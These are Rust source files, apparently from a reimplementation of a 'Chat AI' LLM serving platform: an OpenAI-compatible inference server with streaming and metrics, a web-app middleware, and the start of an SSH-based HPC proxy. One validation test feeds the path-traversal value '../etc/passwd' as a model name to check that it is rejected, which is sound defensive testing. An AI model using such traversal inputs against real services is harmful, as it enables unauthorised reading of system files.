        s.kv_blocks_used.load(Ordering::Relaxed),
        s.decode_tps_milli.load(Ordering::Relaxed),
        s.queue_depth.load(Ordering::Relaxed),
        s.running.load(Ordering::Relaxed),
        engine.first_token_us.p50(),
        engine.first_token_us.p99(),
        engine.queue_wait_us.p50(),
        engine.queue_wait_us.p99(),
        s.spec_proposed_tokens.load(Ordering::Relaxed),
        s.spec_accepted_tokens.load(Ordering::Relaxed),
        s.spec_tokens_per_step_milli.load(Ordering::Relaxed),
    );
    for (lane, depth) in s.lane_depth_snapshot().iter().enumerate() {
        out.push_str(&format!(
            "llm_prefill_lane_depth{{model=\"{model}\",lane=\"{lane}\"}} {depth}\n"
        ));
    }
    for (tenant, tokens) in s.tenant_tokens_snapshot() {
        out.push_str(&format!(
            "llm_tenant_tokens_total{{model=\"{model}\",tenant=\"{tenant}\"}} {tokens}\n"
        ));
    }
    out.push_str(&stream_stats.prometheus_text("llm"));
    out
}

/// Flatten chat messages into the model's prompt format.
pub fn render_chat_prompt(messages: &[Json]) -> String {
    let mut prompt = String::new();
    for m in messages {
        let role = m.str_field("role").unwrap_or("user");
        let content = m.str_field("content").unwrap_or("");
        prompt.push_str(role);
        prompt.push_str(": ");
        prompt.push_str(content);
        prompt.push('\n');
    }
    prompt.push_str("assistant: ");
    prompt
}

fn parse_sampling(v: &Json) -> SamplingParams {
    SamplingParams {
        temperature: v.f64_field("temperature").unwrap_or(0.0),
        top_k: v.u64_field("top_k").unwrap_or(0) as usize,
        seed: v.u64_field("seed").unwrap_or(0),
    }
}

fn chat_completions(
    model: &str,
    engine: &Engine,
    req: &Request,
    streaming: &StreamingConfig,
    stream_stats: &Arc<StreamStats>,
) -> Response {
    let Ok(body) = crate::util::json::parse(&req.body_str()) else {
        return Response::error(400, "invalid JSON body");
    };
    let Some(messages) = body.get("messages").and_then(Json::as_arr) else {
        return Response::error(400, "missing messages");
    };
    let prompt = render_chat_prompt(messages);
    run_generation(model, engine, req, &body, &prompt, true, streaming, stream_stats)
}

fn completions(
    model: &str,
    engine: &Engine,
    req: &Request,
    streaming: &StreamingConfig,
    stream_stats: &Arc<StreamStats>,
) -> Response {
    let Ok(body) = crate::util::json::parse(&req.body_str()) else {
        return Response::error(400, "invalid JSON body");
    };
    let Some(prompt) = body.str_field("prompt") else {
        return Response::error(400, "missing prompt");
    };
    let prompt = prompt.to_string();
    run_generation(model, engine, req, &body, &prompt, false, streaming, stream_stats)
}

#[allow(clippy::too_many_arguments)]
fn run_generation(
    model: &str,
    engine: &Engine,
    req: &Request,
    body: &Json,
    prompt: &str,
    chat: bool,
    streaming: &StreamingConfig,
    stream_stats: &Arc<StreamStats>,
) -> Response {
    let max_tokens = body.u64_field("max_tokens").unwrap_or(64) as usize;
    let stream = body.bool_field("stream").unwrap_or(false);
    let sampling = parse_sampling(body);
    // Tenant + priority class, threaded from the gateway: the consumer
    // identity header is the fair-share billing key; the priority header
    // picks the admission wait budget.
    let tenant = req.header("x-consumer").unwrap_or("anonymous").to_string();
    let priority = req
        .header("x-chat-ai-priority")
        .and_then(Priority::parse)
        .unwrap_or_default();
    // Trace ID threaded from the gateway via the SSH envelope; absent on
    // old-format requests and when tracing is off upstream.
    let trace_id = req.header("x-chat-ai-trace").and_then(trace::TraceId::parse);
    let t0 = Instant::now();
    let (events_tx, events_rx) =
        std::sync::mpsc::sync_channel::<GenEvent>(streaming.chunk_buffer.max(8));
    // The engine end of the cancellation chain: the SSE write side trips
    // this token on client disconnect and the engine evicts the sequence.
    let cancel = CancelToken::new();

    if let Err(shed) = engine.try_submit(GenRequest {
        prompt_tokens: tokenizer::encode(prompt),
        max_tokens,
        sampling,
        events: events_tx,
        cancel: cancel.clone(),
        tenant,
        priority,
        trace: trace_id,
    }) {
        // Shed early, here at the instance boundary: the 429/503 +
        // Retry-After travels back through the cloud interface and
        // gateway instead of the request timing out deep in the stack.
        let msg = match shed.reason {
            crate::util::fairness::ShedReason::QueueFull => "admission queue full",
            crate::util::fairness::ShedReason::WaitBudget => {
                "estimated wait exceeds priority-class budget"
            }
        };
        let body = Json::obj().set(
            "error",
            Json::obj()
                .set("message", msg)
                .set("type", "overloaded")
                .set("retry_after_s", shed.retry_after_secs()),
        );
        return Response::json(shed.status(), &body)
            .with_header("retry-after", &shed.retry_after_secs().to_string());
    }

    let model = model.to_string();
    if stream {
        // SSE origin hop: each event is serialized exactly once, straight
        // into a pool-recycled buffer (no intermediate `String` → `Vec`
        // copy), and `[DONE]` rides a static slice. Heartbeats are armed
        // here (each chunk is a whole SSE event; idle prefill gaps get
        // `: heartbeat` comments). With `[streaming] coalesce_ms` set,
        // tokens arriving within the window are appended to one pending
        // buffer and flushed together — the first token of the stream and
        // all terminal events flush immediately, so TTFT is unaffected.
        // The StreamHandle records the lifecycle (started / completed /
        // cancelled, TTFT, bytes) exactly once.
        let mut handle = StreamHandle::begin(stream_stats.clone());
        let (resp, tx) = Response::sse(streaming.chunk_buffer);
        let resp = resp
            .with_relay(streaming.relay)
            .with_heartbeat(streaming.heartbeat)
            .with_stall_timeout(streaming.stall_timeout)
            .with_stream_cancel(cancel.clone())
            .with_stream_stats(stream_stats.clone());
        let stats = stream_stats.clone();
        let started = Instant::now();
        let relay = streaming.relay;
        let coalesce = streaming.coalesce;
        let coalesce_max = streaming.coalesce_max_tokens.max(1);
        std::thread::spawn(move || {
            use std::io::Write as _;
            let object = if chat {
                "chat.completion.chunk"
            } else {
                "text_completion.chunk"
            };
            let pool = relay.then(crate::util::http::relay_pool);
            // The pending coalesced buffer + its flush deadline.
            let mut batch: Option<PooledBuf> = None;
            let mut batch_tokens = 0usize;
            let mut deadline: Option<Instant> = None;
            let mut first_token = true;
            loop {
                let timeout = match deadline {
                    Some(d) => d.saturating_duration_since(Instant::now()),
                    None => Duration::from_secs(120),
                };
                match events_rx.recv_timeout(timeout) {
                    Ok(GenEvent::Token { bytes, .. }) => {
                        if first_token {
                            // Engine-hop TTFB: request receipt → first token
                            // leaving for the SSE writer. One-time latch.
                            if let Some(id) = trace_id {
                                trace::record(
                                    id,
                                    trace::Hop::Engine,
                                    trace::Stage::Ttfb,
                                    t0.elapsed(),
                                );
                            }
                        }
                        let text = String::from_utf8_lossy(&bytes).to_string();
                        let delta = if chat {
                            Json::obj().set(
                                "delta",
                                Json::obj().set("role", "assistant").set("content", text),
                            )
                        } else {
                            Json::obj().set("text", text)
                        };
                        let chunk = Json::obj()
                            .set("object", object)
                            .set("model", model.as_str())
                            .set("choices", vec![delta.set("index", 0u64)]);
                        let mut buf = match batch.take() {
                            Some(b) => b,
                            None => match &pool {
                                Some(p) => p.take(),
                                None => PooledBuf::from(Vec::new()),
                            },
                        };
                        let _ = write!(buf.vec_mut(), "data: {chunk}\n\n");
                        batch = Some(buf);
                        batch_tokens += 1;
                        let flush_now = first_token
                            || coalesce.is_zero()
                            || batch_tokens >= coalesce_max;
                        first_token = false;
                        if flush_now {
                            let payload = batch.take().unwrap();
                            batch_tokens = 0;
                            deadline = None;
                            record_chunk(&mut handle, relay, payload.len());
                            if tx.send(payload).is_err() {
                                // Client hung up: make sure the engine knows.
                                cancel.cancel();
                                handle.finish_cancelled();
                                return;
                            }
                        } else if deadline.is_none() {
                            deadline = Some(Instant::now() + coalesce);
                        }
                    }
                    Ok(GenEvent::Done { reason, tokens }) => {
                        // Terminal event: flush anything still coalescing.
                        if let Some(payload) = batch.take() {
                            record_chunk(&mut handle, relay, payload.len());
                            if tx.send(payload).is_err() {
                                cancel.cancel();
                                handle.finish_cancelled();
                                return;
                            }
                        }
                        let fin = Json::obj().set("object", object).set(
                            "choices",
                            vec![Json::obj()
                                .set("index", 0u64)
                                .set("finish_reason", finish_str(reason))],
                        );
                        let _ = tx.send(format!("data: {fin}\n\n").into_bytes().into());
                        let _ = tx.send(PooledBuf::from_static(b"data: [DONE]\n\n"));
                        if reason == FinishReason::Disconnect {
                            handle.finish_cancelled();
                        } else {
                            handle.finish_completed();
                            let secs = started.elapsed().as_secs_f64();
                            if tokens > 0 && secs > 0.0 {
                                stats
                                    .tokens_per_sec_milli
                                    .record((tokens as f64 / secs * 1e3) as u64);
                            }
                        }
                        return;
                    }
                    Ok(GenEvent::Error(e)) => {
                        if let Some(payload) = batch.take() {
                            record_chunk(&mut handle, relay, payload.len());
                            let _ = tx.send(payload);
                        }
                        handle.finish_error();
                        let mut err = Json::obj().set("message", e);
                        if let Some(id) = trace_id {
                            err = err.set("trace", id.as_str());
                        }
                        let msg = Json::obj().set("error", err);
                        let _ = tx
                            .send(format!("event: error\ndata: {msg}\n\n").into_bytes().into());
                        return;
                    }
                    Err(RecvTimeoutError::Timeout) => {
                        if let Some(payload) = batch.take() {
                            // Coalescing window expired: flush.
                            batch_tokens = 0;
                            deadline = None;
                            record_chunk(&mut handle, relay, payload.len());
                            if tx.send(payload).is_err() {
                                cancel.cancel();
                                handle.finish_cancelled();
                                return;
                            }
                        } else {
                            // 120 s with no event and nothing pending: the
                            // engine abandoned this stream.
                            return;
                        }
                    }
                    Err(RecvTimeoutError::Disconnected) => {
                        if let Some(payload) = batch.take() {
                            record_chunk(&mut handle, relay, payload.len());
                            let _ = tx.send(payload);
                        }
                        return;
                    }
                }
            }
        });
        resp
    } else {
        // Blocking: collect all tokens then reply.
        let mut text_bytes: Vec<u8> = Vec::new();
        let mut finish = FinishReason::Disconnect;
        let mut n_tokens = 0usize;
        loop {
            match events_rx.recv_timeout(Duration::from_secs(300)) {
                Ok(GenEvent::Token { bytes, .. }) => text_bytes.extend_from_slice(&bytes),
                Ok(GenEvent::Done { reason, tokens }) => {
                    finish = reason;
                    n_tokens = tokens;
                    break;
                }
                Ok(GenEvent::Error(e)) => return Response::error(500, &e),
                Err(RecvTimeoutError::Timeout) => {
                    return Response::error(504, "generation timed out")
                }
                Err(RecvTimeoutError::Disconnected) => break,
            }
        }
        if let Some(id) = trace_id {
            trace::record(id, trace::Hop::Engine, trace::Stage::Ttfb, t0.elapsed());
        }
        let text = String::from_utf8_lossy(&text_bytes).to_string();
        let choice = if chat {
            Json::obj()
                .set("index", 0u64)
                .set(
                    "message",
                    Json::obj().set("role", "assistant").set("content", text),
                )
                .set("finish_reason", finish_str(finish))
        } else {
            Json::obj()
                .set("index", 0u64)
                .set("text", text)
                .set("finish_reason", finish_str(finish))
        };
        let body = Json::obj()
            .set("object", if chat { "chat.completion" } else { "text_completion" })
            .set("model", model)
            .set("choices", vec![choice])
            .set(
                "usage",
                Json::obj().set("completion_tokens", n_tokens as u64),
            );
        Response::json(200, &body)
    }
}

/// Record a produced SSE chunk on the stream handle, attributing it to the
/// relay byte counter only when the relay path carried it.
fn record_chunk(handle: &mut StreamHandle, relay: bool, bytes: usize) {
    if relay {
        handle.on_forward(bytes);
    } else {
        handle.on_chunk(bytes);
    }
}

fn finish_str(reason: FinishReason) -> &'static str {
    match reason {
        FinishReason::Stop => "stop",
        FinishReason::Length => "length",
        FinishReason::Disconnect => "abort",
    }
}
