//! The LLM server instance: what a Slurm service job runs on a GPU node.
//! OpenAI-compatible HTTP API over the continuous-batching engine —
//! functionally the paper's `vLLM` process (§5.7).

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::RecvTimeoutError;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;

use super::backend::Backend;
use super::engine::{Engine, EngineConfig, FinishReason, GenEvent, GenRequest};
use super::sampler::SamplingParams;
use super::tokenizer;
use crate::util::http::{Handler, Request, Response, Server};
use crate::util::json::Json;

/// A running LLM server (engine + HTTP endpoint).
pub struct LlmServer {
    pub model: String,
    pub engine: Arc<Engine>,
    server: Server,
    ready: Arc<AtomicBool>,
}

impl LlmServer {
    /// Start serving `backend` as `model` on an ephemeral localhost port.
    pub fn start(model: &str, backend: Arc<dyn Backend>, workers: usize) -> Result<LlmServer> {
        let config = EngineConfig::for_backend(backend.as_ref());
        let engine = Engine::start(backend, config);
        let ready = Arc::new(AtomicBool::new(true));
        let handler = api_handler(model.to_string(), engine.clone(), ready.clone());
        let server = Server::serve("127.0.0.1:0", &format!("llm-{model}"), workers, handler)?;
        Ok(LlmServer {
            model: model.to_string(),
            engine,
            server,
            ready,
        })
    }

    pub fn addr(&self) -> std::net::SocketAddr {
        self.server.addr()
    }

    pub fn url(&self) -> String {
        self.server.url()
    }

    /// Toggle readiness (used to simulate model-load time and drains).
    pub fn set_ready(&self, ready: bool) {
        self.ready.store(ready, Ordering::SeqCst);
    }

    pub fn stop(mut self) {
        self.engine.stop();
        self.server.stop();
    }
}

/// Build the OpenAI-compatible handler.
pub fn api_handler(model: String, engine: Arc<Engine>, ready: Arc<AtomicBool>) -> Handler {
    Arc::new(move |req: &Request| -> Response {
        match (req.method.as_str(), req.path.as_str()) {
            ("GET", "/health") => {
                if ready.load(Ordering::SeqCst) {
                    Response::json(200, &Json::obj().set("status", "ok"))
                } else {
                    Response::error(503, "loading")
                }
            }
            ("GET", "/metrics") => Response::text(200, metrics_text(&model, &engine)),
            ("GET", "/v1/models") => Response::json(
                200,
                &Json::obj().set("object", "list").set(
                    "data",
                    vec![Json::obj()
                        .set("id", model.as_str())
                        .set("object", "model")
                        .set("owned_by", "chat-ai")],
                ),
            ),
            ("POST", "/v1/chat/completions") => {
                if !ready.load(Ordering::SeqCst) {
                    return Response::error(503, "model loading");
                }
                chat_completions(&model, &engine, req)
            }
            ("POST", "/v1/completions") => {
                if !ready.load(Ordering::SeqCst) {
                    return Response::error(503, "model loading");
                }
                completions(&model, &engine, req)
            }
            _ => Response::error(404, "not found"),
        }
    })
}

fn metrics_text(model: &str, engine: &Engine) -> String {
    let s = &engine.stats;
    format!(
        "# TYPE llm_requests_total counter\n\
         llm_requests_total{{model=\"{model}\"}} {}\n\
         llm_completed_total{{model=\"{model}\"}} {}\n\
         llm_rejected_total{{model=\"{model}\"}} {}\n\
         llm_tokens_generated_total{{model=\"{model}\"}} {}\n\
         llm_decode_steps_total{{model=\"{model}\"}} {}\n\
         llm_batched_seqs_total{{model=\"{model}\"}} {}\n\
         llm_queue_depth{{model=\"{model}\"}} {}\n\
         llm_running_seqs{{model=\"{model}\"}} {}\n\
         llm_first_token_p50_us{{model=\"{model}\"}} {}\n\
         llm_first_token_p99_us{{model=\"{model}\"}} {}\n",
        s.requests.load(Ordering::Relaxed),
        s.completed.load(Ordering::Relaxed),
        s.rejected.load(Ordering::Relaxed),
        s.tokens_generated.load(Ordering::Relaxed),
        s.decode_steps.load(Ordering::Relaxed),
        s.batched_seqs.load(Ordering::Relaxed),
        s.queue_depth.load(Ordering::Relaxed),
        s.running.load(Ordering::Relaxed),
        engine.first_token_us.p50(),
        engine.first_token_us.p99(),
    )
}

/// Flatten chat messages into the model's prompt format.
pub fn render_chat_prompt(messages: &[Json]) -> String {
    let mut prompt = String::new();
    for m in messages {
        let role = m.str_field("role").unwrap_or("user");
        let content = m.str_field("content").unwrap_or("");
        prompt.push_str(role);
        prompt.push_str(": ");
        prompt.push_str(content);
        prompt.push('\n');
    }
    prompt.push_str("assistant: ");
    prompt
}

fn parse_sampling(v: &Json) -> SamplingParams {
    SamplingParams {
        temperature: v.f64_field("temperature").unwrap_or(0.0),
        top_k: v.u64_field("top_k").unwrap_or(0) as usize,
        seed: v.u64_field("seed").unwrap_or(0),
    }
}

fn chat_completions(model: &str, engine: &Engine, req: &Request) -> Response {
    let Ok(body) = crate::util::json::parse(&req.body_str()) else {
        return Response::error(400, "invalid JSON body");
    };
    let Some(messages) = body.get("messages").and_then(Json::as_arr) else {
        return Response::error(400, "missing messages");
    };
    let prompt = render_chat_prompt(messages);
    run_generation(model, engine, req, &body, &prompt, true)
}

fn completions(model: &str, engine: &Engine, req: &Request) -> Response {
    let Ok(body) = crate::util::json::parse(&req.body_str()) else {
        return Response::error(400, "invalid JSON body");
    };
    let Some(prompt) = body.str_field("prompt") else {
        return Response::error(400, "missing prompt");
    };
    let prompt = prompt.to_string();
    run_generation(model, engine, req, &body, &prompt, false)
}

fn run_generation(
    model: &str,
    engine: &Engine,
    _req: &Request,
    body: &Json,
    prompt: &str,
    chat: bool,
) -> Response {
    let max_tokens = body.u64_field("max_tokens").unwrap_or(64) as usize;
    let stream = body.bool_field("stream").unwrap_or(false);
    let sampling = parse_sampling(body);
    let (events_tx, events_rx) = std::sync::mpsc::sync_channel::<GenEvent>(256);

    let accepted = engine.submit(GenRequest {
        prompt_tokens: tokenizer::encode(prompt),
        max_tokens,
        sampling,
        events: events_tx,
    });
    if !accepted {
        return Response::error(503, "engine unavailable");
    }

    let model = model.to_string();
    if stream {
        // SSE: one chunk per token + [DONE].
        let (resp, tx) = Response::sse(64);
        std::thread::spawn(move || {
            let object = if chat {
                "chat.completion.chunk"
            } else {
                "text_completion.chunk"
            };
            loop {
                match events_rx.recv_timeout(Duration::from_secs(120)) {
                    Ok(GenEvent::Token { bytes, .. }) => {
                        let text = String::from_utf8_lossy(&bytes).to_string();
                        let delta = if chat {
                            Json::obj().set(
                                "delta",
                                Json::obj().set("role", "assistant").set("content", text),
                            )
                        } else {
                            Json::obj().set("text", text)
                        };
                        let chunk = Json::obj()
                            .set("object", object)
                            .set("model", model.as_str())
                            .set("choices", vec![delta.set("index", 0u64)]);
                        if tx
                            .send(format!("data: {chunk}\n\n").into_bytes())
                            .is_err()
                        {
                            return; // client hung up
                        }
                    }
                    Ok(GenEvent::Done { reason, .. }) => {
                        let fin = Json::obj().set("object", object).set(
                            "choices",
                            vec![Json::obj()
                                .set("index", 0u64)
                                .set("finish_reason", finish_str(reason))],
                        );
                        let _ = tx.send(format!("data: {fin}\n\n").into_bytes());
                        let _ = tx.send(b"data: [DONE]\n\n".to_vec());
                        return;
                    }
                    Ok(GenEvent::Error(e)) => {
                        let _ = tx.send(
                            format!("data: {}\n\n", Json::obj().set("error", e)).into_bytes(),
                        );
                        return;
                    }
                    Err(_) => return,
                }
            }
        });
        resp
    } else {
        // Blocking: collect all tokens then reply.
        let mut text_bytes: Vec<u8> = Vec::new();
        let mut finish = FinishReason::Disconnect;
        let mut n_tokens = 0usize;
        loop {
            match events_rx.recv_timeout(Duration::from_secs(300)) {
                Ok(GenEvent::Token { bytes, .. }) => text_bytes.extend_from_slice(&bytes),
                Ok(GenEvent::Done { reason, tokens }) => {
                    finish = reason;
                    n_tokens = tokens;
                    break;
                }
                Ok(GenEvent::Error(e)) => return Response::error(500, &e),
                Err(RecvTimeoutError::Timeout) => {
                    return Response::error(504, "generation timed out")
                }
                Err(RecvTimeoutError::Disconnected) => break,
            }
        }
        let text = String::from_utf8_lossy(&text_bytes).to_string();
        let choice = if chat {
            Json::obj()
                .set("index", 0u64)
                .set(
                    "message",
                    Json::obj().set("role", "assistant").set("content", text),
                )
                .set("finish_reason", finish_str(finish))
        } else {
            Json::obj()
                .set("index", 0u64)
                .set("text", text)
                .set("finish_reason", finish_str(finish))
        };
        let body = Json::obj()
            .set("object", if chat { "chat.completion" } else { "text_completion" })
            .set("model", model)
            .set("choices", vec![choice])
            .set(
                "usage",
                Json::obj().set("completion_tokens", n_tokens as u64),
            );
        Response::json(200, &body)
    }
}

fn finish_str(reason: FinishReason) -> &'static str {
    match reason {
        FinishReason::Stop => "stop",
        FinishReason::Length => "length",
        FinishReason::Disconnect => "abort",
    }
}
