//! The Chat AI web app (§5.3).
//!
//! The paper's interface is a React/Vite SPA that runs **entirely in the
//! browser** — conversations are stored client-side only, never on the
//! server (the privacy cornerstone, §6.2). The server side is therefore
//! tiny: static asset delivery plus a thin middleware that validates chat
//! API payloads and forwards them to the gateway's model routes. That
//! middleware is the "Chat AI Web Interface Middleware" row of Table 2.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use crate::util::http::{Handler, Request, Response, Server};
use crate::util::json::Json;

/// Static SPA page (stands in for the built React bundle).
const INDEX_HTML: &str = r#"<!doctype html>
<html><head><title>Chat AI</title></head>
<body>
<h1>Chat AI</h1>
<p>Conversations live in your browser. Nothing is stored server-side.</p>
<script>/* SPA bundle placeholder: talks to /api/chat */</script>
</body></html>"#;

pub struct WebApp {
    /// Gateway address for forwarded inference calls.
    gateway_addr: String,
    pub static_hits: AtomicU64,
    pub chat_requests: AtomicU64,
    pub rejected: AtomicU64,
}

impl WebApp {
    pub fn new(gateway_addr: &str) -> Arc<WebApp> {
        Arc::new(WebApp {
            gateway_addr: gateway_addr.to_string(),
            static_hits: AtomicU64::new(0),
            chat_requests: AtomicU64::new(0),
            rejected: AtomicU64::new(0),
        })
    }

    pub fn handle(&self, req: &Request) -> Response {
        match (req.method.as_str(), req.path.as_str()) {
            ("GET", "/" | "/chat" | "/index.html") => {
                self.static_hits.fetch_add(1, Ordering::Relaxed);
                Response::new(200)
                    .with_header("content-type", "text/html; charset=utf-8")
                    .with_body(INDEX_HTML.as_bytes().to_vec())
            }
            ("POST", "/api/chat") => self.chat_middleware(req),
            _ => Response::error(404, "not found"),
        }
    }

    /// Validate the browser's chat payload and forward to the gateway's
    /// per-model route. Statelessness is structural: the full conversation
    /// arrives with every request and nothing is retained here.
    fn chat_middleware(&self, req: &Request) -> Response {
        self.chat_requests.fetch_add(1, Ordering::Relaxed);
        let Ok(body) = crate::util::json::parse(&req.body_str()) else {
            self.rejected.fetch_add(1, Ordering::Relaxed);
            return Response::error(400, "invalid JSON");
        };
        let Some(model) = body.str_field("model") else {
            self.rejected.fetch_add(1, Ordering::Relaxed);
            return Response::error(400, "missing model");
        };
        if !crate::cloud_interface::valid_service_name(model) {
            self.rejected.fetch_add(1, Ordering::Relaxed);
            return Response::error(400, "invalid model name");
        }
        let Some(messages) = body.get("messages").and_then(Json::as_arr) else {
            self.rejected.fetch_add(1, Ordering::Relaxed);
            return Response::error(400, "missing messages");
        };
        if messages.len() > 256 {
            self.rejected.fetch_add(1, Ordering::Relaxed);
            return Response::error(400, "conversation too long");
        }
        for m in messages {
            let role_ok = matches!(
                m.str_field("role"),
                Some("system" | "user" | "assistant")
            );
            if !role_ok || m.str_field("content").is_none() {
                self.rejected.fetch_add(1, Ordering::Relaxed);
                return Response::error(400, "malformed message");
            }
        }

        // Forward to the gateway's model route, propagating identity.
        let path = format!("/{model}/v1/chat/completions");
        let mut up = Request::new("POST", &path)
            .with_header("content-type", "application/json")
            .with_body(req.body.clone());
        if let Some(email) = req.header("x-user-email") {
            up = up.with_header("x-user-email", email);
        }
        let sent =
            crate::util::http::pooled(&self.gateway_addr).and_then(|mut client| client.send(&up));
        match sent {
            Ok(resp) => {
                let mut r = Response::new(resp.status).with_body(resp.body);
                if let Some(ct) = resp.headers.get("content-type") {
                    r = r.with_header("content-type", ct);
                }
                r
            }
            Err(e) => Response::error(502, &format!("gateway unreachable: {e}")),
        }
    }

    pub fn serve(self: &Arc<WebApp>, addr: &str, workers: usize) -> std::io::Result<Server> {
        let this = self.clone();
        let handler: Handler = Arc::new(move |req| this.handle(req));
        Server::serve(addr, "webapp", workers, handler)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::http::Client;

    fn echo_gateway() -> Server {
        Server::serve(
            "127.0.0.1:0",
            "gw",
            2,
            Arc::new(|req: &Request| {
                Response::json(
                    200,
                    &Json::obj()
                        .set("path", req.path.as_str())
                        .set("user", req.header("x-user-email").unwrap_or("-")),
                )
            }),
        )
        .unwrap()
    }

    fn setup() -> (Arc<WebApp>, Server, Server) {
        let gw = echo_gateway();
        let app = WebApp::new(&gw.addr().to_string());
        let server = app.serve("127.0.0.1:0", 2).unwrap();
        (app, server, gw)
    }

    fn chat_body(model: &str) -> Json {
        Json::obj().set("model", model).set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "hi")],
        )
    }

    #[test]
    fn serves_spa() {
        let (_app, server, _gw) = setup();
        let mut client = Client::new(&server.url());
        let resp = client.get("/chat").unwrap();
        assert_eq!(resp.status, 200);
        assert!(resp.body_str().contains("Chat AI"));
    }

    #[test]
    fn forwards_valid_chat_to_model_route() {
        let (_app, server, _gw) = setup();
        let mut client = Client::new(&server.url());
        let resp = client
            .send(
                &Request::new("POST", "/api/chat")
                    .with_header("x-user-email", "s@uni.de")
                    .with_body(chat_body("llama3-70b").to_string().into_bytes()),
            )
            .unwrap();
        assert_eq!(resp.status, 200);
        let v = resp.json().unwrap();
        assert_eq!(v.str_field("path"), Some("/llama3-70b/v1/chat/completions"));
        assert_eq!(v.str_field("user"), Some("s@uni.de"));
    }

    #[test]
    fn rejects_malformed_payloads() {
        let (app, server, _gw) = setup();
        let mut client = Client::new(&server.url());
        for body in [
            "not json".to_string(),
            Json::obj().set("messages", Vec::<Json>::new()).to_string(), // no model
            Json::obj().set("model", "llama").to_string(),               // no messages
            chat_body("../etc/passwd").to_string(),                      // bad model name
            Json::obj()
                .set("model", "llama")
                .set("messages", vec![Json::obj().set("role", "wizard").set("content", "x")])
                .to_string(),
        ] {
            let resp = client
                .send(&Request::new("POST", "/api/chat").with_body(body.clone().into_bytes()))
                .unwrap();
            assert_eq!(resp.status, 400, "accepted: {body}");
        }
        assert_eq!(app.rejected.load(Ordering::Relaxed), 5);
    }

    #[test]
    fn no_server_side_conversation_state() {
        // Structural test: WebApp holds only counters — no storage fields.
        // Send two chats; the struct exposes nothing conversation-shaped.
        let (app, server, _gw) = setup();
        let mut client = Client::new(&server.url());
        for _ in 0..2 {
            client
                .send(
                    &Request::new("POST", "/api/chat")
                        .with_body(chat_body("llama").to_string().into_bytes()),
                )
                .unwrap();
        }
        assert_eq!(app.chat_requests.load(Ordering::Relaxed), 2);
        // (The absence of storage is enforced by the type: WebApp has no
        // collection of messages; this test documents the contract.)
    }
}
