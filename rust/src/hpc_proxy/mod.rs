//! The HPC Proxy (§5.4): the bridge between the web server and the HPC
//! platform.
//!
//! Holds one persistent SSH connection to the HPC service node, sends a
//! keep-alive ping every `keepalive_interval` (5 s in the paper — each
//! ping also triggers the scheduler script on the HPC side), transparently
//! re-establishes the connection when it breaks, and forwards
//! inference-related HTTP requests as `saia request` execs with a JSON
//! envelope on stdin, streaming responses back.
//!
//! URL convention (one gateway route per model): the first path segment is
//! the service, the remainder the upstream path —
//! `/llama3-70b/v1/chat/completions` → service `llama3-70b`,
//! path `/v1/chat/completions`.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::ssh::{SshClient, SshConn, SshConnConfig, SshError};
use crate::util::http::{Handler, Request, Response, Server};
use crate::util::json::Json;
use crate::util::streaming::{StreamHandle, StreamStats, StreamingConfig};
use crate::util::trace;

pub use crate::ssh::backoff_delay;

pub struct HpcProxyConfig {
    pub ssh_addr: SocketAddr,
    pub key_fingerprint: String,
    pub keepalive_interval: Duration,
    /// Base reconnect backoff after the first failed attempt; doubles per
    /// consecutive failure (with jitter) up to `reconnect_backoff_max`.
    pub reconnect_backoff: Duration,
    /// Exponential backoff cap.
    pub reconnect_backoff_max: Duration,
    /// Streaming tuning (buffers, stall policy) for the SSE pass-through.
    pub streaming: StreamingConfig,
}

/// The proxy: request forwarding over a pooled, self-healing SSH link.
pub struct HpcProxy {
    config: HpcProxyConfig,
    /// The persistent multiplexed SSH connection, shared through the
    /// process-wide [`crate::ssh::ssh_pool`] — the health prober and any
    /// other component targeting the same endpoint ride the same link.
    link: Arc<SshConn>,
    shutdown: Arc<AtomicBool>,
    pub pings_sent: AtomicU64,
    pub forwarded: AtomicU64,
    /// Streaming pass-through lifecycle counters.
    pub stream_stats: Arc<StreamStats>,
}

impl HpcProxy {
    pub fn new(config: HpcProxyConfig) -> Arc<HpcProxy> {
        // Relay mode recycles stdout frame buffers through the shared
        // pool; relay off keeps the alloc-per-frame baseline (ablation).
        let buffer_pool = if config.streaming.relay {
            Some(crate::util::http::relay_pool())
        } else {
            None
        };
        let link = crate::ssh::ssh_pool().conn(SshConnConfig {
            addr: config.ssh_addr,
            key_fingerprint: config.key_fingerprint.clone(),
            reconnect_backoff: config.reconnect_backoff,
            reconnect_backoff_max: config.reconnect_backoff_max,
            buffer_pool,
        });
        let proxy = Arc::new(HpcProxy {
            config,
            link,
            shutdown: Arc::new(AtomicBool::new(false)),
            pings_sent: AtomicU64::new(0),
            forwarded: AtomicU64::new(0),
            stream_stats: StreamStats::new(),
        });
        // Keep-alive / reconnect loop.
        let loop_proxy = proxy.clone();
        std::thread::Builder::new()
            .name("hpc-proxy-keepalive".into())
            .spawn(move || loop_proxy.keepalive_loop())
            .expect("spawn keepalive");
        proxy
    }

    pub fn shutdown(&self) {
        self.shutdown.store(true, Ordering::SeqCst);
    }

    fn keepalive_loop(self: Arc<HpcProxy>) {
        while !self.shutdown.load(Ordering::SeqCst) {
            let client = self.connection();
            if let Some(client) = client {
                self.pings_sent.fetch_add(1, Ordering::Relaxed);
                if client.ping(Duration::from_secs(5)).is_err() {
                    log::warn!(target: "hpc_proxy", "keepalive failed; dropping connection");
                    self.link.invalidate();
                }
            }
            std::thread::sleep(self.config.keepalive_interval);
        }
    }

    /// Current connection, establishing it if needed. Backoff and
    /// single-flight dialing live in the shared [`SshConn`] handle, so
    /// request paths (and the federation prober) never queue behind a
    /// connect timeout to a downed cluster.
    fn connection(&self) -> Option<Arc<SshClient>> {
        self.link.get()
    }

    /// Consecutive connect failures (0 when connected) — federation health
    /// scoring reads this.
    pub fn consecutive_failures(&self) -> u32 {
        self.link.consecutive_failures()
    }

    /// Dial attempts on the shared SSH link, successful or not.
    pub fn connect_attempts(&self) -> u64 {
        self.link.connect_attempts()
    }

    /// Successful (re)connects on the shared SSH link.
    pub fn reconnects(&self) -> u64 {
        self.link.reconnects()
    }

    /// Probe the cloud interface (`saia probe`) — used by Table 1.
    pub fn probe(&self) -> Result<Json, SshError> {
        let client = self.connection().ok_or(SshError::ConnectionLost)?;
